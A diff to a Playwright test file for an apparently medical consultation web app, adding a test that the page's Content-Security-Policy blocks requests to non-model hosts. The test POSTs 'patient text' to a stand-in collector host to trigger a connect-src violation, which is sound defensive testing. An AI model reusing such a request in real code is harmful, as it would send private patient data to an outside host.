@@ -19,3 +19,13 @@ test('no request made during a consultation carries the message text', async ({ 
   // The check looked at real traffic: the reload fetched the app again.
   expect(network.requests.length).toBeGreaterThan(before);
 });
+
+test('the Content-Security-Policy blocks the page from sending anything to a host that is not a model host', async ({ page }) => {
+  await page.goto('./');
+  const violation = await page.evaluate(async () => {
+    const seen = new Promise<string>((resolve) => document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true }));
+    await fetch('https://collector.example.org/log', { method: 'POST', body: 'patient text' }).catch(() => undefined);
+    return seen;
+  });
+  expect(violation).toBe('connect-src');
+});
